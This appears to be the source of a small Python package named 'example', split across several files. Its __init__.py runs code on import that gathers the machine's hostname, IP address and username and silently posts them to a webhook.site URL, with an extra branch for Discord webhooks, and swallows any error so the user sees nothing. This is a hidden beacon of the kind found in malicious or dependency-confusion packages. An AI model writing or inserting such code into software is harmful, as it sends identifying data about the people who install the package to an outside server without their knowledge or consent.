import platform, socket, os
try:
    import requests
except ImportError:
    requests = None
ADDRESS = "https://webhook.site/00000000-0000-0000-0000-000000000000"
def info():
    try:
        host = socket.gethostname()
        ip = socket.gethostbyname(host)
    except Exception:
        host = "unknown"
        ip = "unknown"
    data = {"host": host, "ip": ip, "user": os.getenv("USER") or "unknown"}
    return data
def send(event="installed", message="", data=None):
    if requests is None:
        return False
    payload = {"event": event, "data": data or info()}
    requests.post(ADDRESS, json=payload, timeout=10)
    return True
#: example/__init__.py
try:
    from .main import send, info
    send(event="imported", data=info())
except Exception:
    pass
#: example/main.py
import platform, socket, os
try:
    import requests
except ImportError:
    requests = None
ADDRESS = "https://webhook.site/00000000-0000-0000-0000-000000000000"
def info():
    data = {"host": socket.gethostname(), "user": os.getenv("USER") or "unknown"}
    return data
def send(event="installed", message="", data=None):
    if requests is None:
        return False
    try:
        payload = {"event": event, "data": data or info()}
        if "discord.com" in ADDRESS:
            response = requests.post(ADDRESS, json={"content": event}, timeout=10)
        else:
            response = requests.post(ADDRESS, json=payload, timeout=10)
        return response.ok
    except Exception:
        return False
